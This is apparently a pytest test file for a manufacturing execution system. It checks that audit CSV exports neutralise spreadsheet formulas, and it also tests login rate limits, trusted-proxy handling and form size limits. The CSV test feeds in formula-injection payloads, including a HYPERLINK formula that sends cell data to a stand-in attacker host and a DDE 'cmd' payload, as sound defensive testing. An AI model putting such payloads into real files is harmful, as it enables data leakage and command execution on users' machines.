"""The audit CSV is safe to open in a spreadsheet; attempt limits hold behind nginx
(issue 18; Annex 11 §8.1 readable copies, Part 11 §11.300(d))."""

from __future__ import annotations

import csv
import io
import secrets

from flask import Flask

from mes.audit import log
from mes.audit.log import Actor
from mes.db import db
from mes.users import operations as ops
from mes.users.ratelimit import RedisAttemptLimiter
from tests.helpers import SEED, Session, logged_in, seed


def test_audit_csv_neutralises_formulas_and_starts_with_a_bom(app: Flask) -> None:
    seeded = seed()
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
    s = Session(app.test_client(), seeded.workstation)
    assert s.login(hostile[0], "Wrong-Passw0rd-1").status_code == 401  # the given id is recorded as is
    for i, text in enumerate(hostile[1:]):
        log.record(SEED, "lot.hold.placed", ("lot", f"L-{i}"), reason=f"=cmd|' /C calc'!A0 {text}" if i == 0 else text)
    log.record(Actor("zh1", "王小明", "qa", "QA-WS-01"), "lot.released", ("lot", "L-9"))
    db.session.commit()
    qa = logged_in(app.test_client(), seeded, "qa")
    r = qa.get("/qa/audit.csv")
    assert r.status_code == 200 and r.headers["Content-Type"] == "text/csv; charset=utf-8"
    raw = r.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "王小明" in text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + hostile[0] in cells and "'@SUM(A1)" in cells and "'\tTAB" in cells


def test_login_limits_are_per_terminal_not_per_proxy_address(app: Flask) -> None:
    """Behind nginx every kiosk has the proxy's address: each registered terminal has its own bucket."""
    seeded = seed()
    app.config["MES_LOGIN_RATE_PER_MINUTE"] = 2
    ops.register_terminal(SEED, "KIOSK-02", "kiosk", "second kiosk", line="LINE-1", key="test-kiosk-02-key")
    one, two = Session(app.test_client(), seeded.kiosk), Session(app.test_client(), ("KIOSK-02", "test-kiosk-02-key"))
    assert [one.badge_login("B-nobody", "1111").status_code for _ in range(3)] == [401, 401, 429]
    assert two.badge_login("B-nobody", "1111").status_code == 401
    # a made-up terminal id is no way round the limit: unregistered, it is limited by address
    anon = [Session(app.test_client(), (f"FAKE-{i}", "x")).login("nobody", "x").status_code for i in range(3)]
    assert anon == [401, 401, 429]


def test_client_address_comes_from_the_configured_trusted_proxies(database_url: str, tmp_path) -> None:
    from mes.app import create_app
    from tests.conftest import base_config

    for hops, expected in ((1, [401, 401, 401]), (0, [401, 401, 429])):
        home = tmp_path / f"home{hops}"
        home.mkdir()
        app = create_app({**base_config(home, database_url), "MES_PROXY_HOPS": hops, "MES_LOGIN_RATE_PER_MINUTE": 2})
        with app.app_context():
            codes = []
            for i in range(3):
                c = app.test_client()
                csrf = c.get("/api/v1/auth/csrf").get_json()["csrf_token"]
                r = c.post("/api/v1/auth/login", json={"user_id": "nobody", "password": "x"},
                           headers={"X-CSRF-Token": csrf, "X-Forwarded-For": f"10.0.0.{i}"})
                codes.append(r.status_code)
            # hops=1: nginx's X-Forwarded-For names three clients; hops=0: the header is not trusted
            assert codes == expected, hops
            db.session.remove()
            db.engine.dispose()


def test_attempt_limits_are_shared_between_workers_through_redis() -> None:
    prefix = f"mes:test:{secrets.token_hex(6)}:"
    worker_a = RedisAttemptLimiter("redis://127.0.0.1:6379/0", prefix=prefix)
    worker_b = RedisAttemptLimiter("redis://127.0.0.1:6379/0", prefix=prefix)
    assert worker_a.hit("account:qa1", 2) is None
    assert worker_b.hit("account:qa1", 2) is None
    assert worker_b.hit("account:qa1", 2, count=False) is not None
    retry = worker_a.hit("account:qa1", 2)
    assert retry is not None and 0 < retry <= 60
    assert worker_a.hit("account:op1", 2) is None


def test_a_form_body_over_the_limit_is_refused_413_as_a_sentence_on_pages_and_problem_json_on_the_api(app: Flask) -> None:
    """Forms are held to FORM_MAX (documented in the OpenAPI description) like JSON bodies to
    BODY_MAX, not to the 16 MB that the largest JSON recipe needs."""
    from mes.validation import FORM_MAX
    from tests.helpers import terminal_header

    seeded = seed()
    big = {"badge": "1001", "pin": "2468", "filler": "x" * (FORM_MAX + 1)}
    client = app.test_client()
    page = client.post("/kiosk/login", data=big, headers={**terminal_header(seeded.kiosk), "Accept": "text/html"})
    assert page.status_code == 413 and page.mimetype == "text/html"
    assert f"The form is larger than {FORM_MAX // 1024} KiB" in page.get_data(as_text=True)
    qa_page = client.post("/qa/login", data={"user_id": "qa1", "password": "x" * (FORM_MAX + 1)},
                          headers={**terminal_header(seeded.workstation), "Accept": "text/html"})
    assert qa_page.status_code == 413 and "The form is larger than" in qa_page.get_data(as_text=True)
    api = client.post("/api/v1/auth/login", data=big, headers=terminal_header(seeded.workstation))
    assert api.status_code == 413 and api.mimetype == "application/problem+json"
    assert api.get_json()["status"] == 413 and "KiB" in api.get_json()["detail"]
    # a form within the limit goes on to the usual checks (here: no CSRF token, 403 as a page)
    small = client.post("/kiosk/login", data={"badge": "1001", "pin": "0000", "filler": "x" * (FORM_MAX - 100)},
                        headers={**terminal_header(seeded.kiosk), "Accept": "text/html"})
    assert small.status_code == 403 and "larger than" not in small.get_data(as_text=True)
    spec = client.get("/api/v1/openapi.json").get_json()
    assert f"at most {FORM_MAX} bytes" in spec["info"]["description"]
